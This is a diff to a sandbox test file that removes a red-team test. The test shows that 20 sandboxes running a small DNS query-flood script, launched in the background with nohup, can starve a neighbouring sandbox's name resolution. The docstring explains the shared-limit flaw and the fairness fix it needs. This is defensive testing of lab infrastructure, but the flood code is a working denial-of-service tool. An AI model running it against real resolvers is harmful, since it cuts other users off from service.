@@ -101,58 +101,5 @@ class DiskOvercommitTest(SmallStateCase):
             self.assertIn("rc=0", out, "a write within the sandbox's own limit failed: %r" % outs)
 
 
-# --- sandbox networking (wt-red2) -------------------------------------------------------------
-import test_redteam_network as rn  # noqa: E402  (a module, so its tests are not run here)
-
-# Keeps 64 queries for never-answered names in flight, for secs seconds.
-SLOW_FLOOD = r"""
-import socket, struct, sys, time
-gw, secs = sys.argv[1], float(sys.argv[2])
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.setblocking(False)
-end, k = time.monotonic() + secs, 0
-while time.monotonic() < end:
-    for _ in range(64):
-        k += 1
-        q = struct.pack(">HHHHHH", k & 0xffff, 0x0100, 1, 0, 0, 0)
-        for l in ("s%d" % k, "slow", "test"):
-            q += bytes([len(l)]) + l.encode()
-        q += b"\0" + struct.pack(">HH", 1, 1)
-        try:
-            s.sendto(q, (gw, 53))
-        except BlockingIOError:
-            pass
-    time.sleep(0.1)
-"""
-
-
-class ResolverFairShareTest(rn.LearnedSetAttacks):
-    """Finding: the resolver's in-flight limit (RESOLVER_INFLIGHT_MAX 1024) is shared by every
-    sandbox and only capped per sandbox at 64: 16 sandboxes whose allowed domain's name server
-    never answers hold all 1024 slots (each query waits the 2 s upstream timeout, and they
-    re-send), and every other sandbox's queries are dropped as busy: no sandbox resolves
-    anything. The same holds for TCP (256 connections, 16 per sandbox). A fix needs a fair
-    share (e.g. a slot reserved per sandbox, or the global limit scaled with the sandboxes),
-    not a smaller per-sandbox cap."""
-
-    def test_answers_cannot_grow_the_learned_set_without_bound(self):
-        self.skipTest("inherited for the lab's DNS server only")
-
-    def test_sixteen_sandboxes_cannot_starve_the_others_dns(self):
-        # attack: 20 sandboxes allowed *.slow.test keep 64 queries each in flight for names their
-        # name server never answers (1280 > 1024); a neighbour then asks for allowed.test
-        pol = {"defaultAction": "deny", "egress": [{"action": "allow", "target": "*.slow.test"}]}
-        attackers = [self.sandbox(pol) for _ in range(20)]
-        victim = self.sandbox({"defaultAction": "deny",
-                               "egress": [{"action": "allow", "target": "allowed.test"}]})
-        gw = self.nameserver(victim)
-        for a in attackers:
-            self.sh(a, "nohup /usr/bin/python3 -c %s %s 30 >/dev/null 2>&1 &" % (rn.q(SLOW_FLOOD), gw))
-        time.sleep(3)  # every flood running, the first timeouts past: the slots stay held
-        answers = [self.resolve(victim, "allowed.test") for _ in range(3)]
-        self.assertIn([self.lab.addr["allowed.test"]], answers,
-                      "the neighbour could not resolve while 20 sandboxes held the resolver")
-
-
 if __name__ == "__main__":
     main()
